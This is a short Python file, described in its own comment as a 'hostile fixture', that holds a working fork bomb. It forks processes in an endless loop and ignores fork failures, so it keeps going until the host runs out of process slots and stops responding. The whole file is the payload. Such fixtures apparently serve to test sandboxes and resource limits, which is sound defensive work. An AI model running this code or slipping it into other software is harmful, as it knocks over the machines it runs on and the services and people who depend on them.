# Hostile fixture: forks without end; a process that cannot fork tries again.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
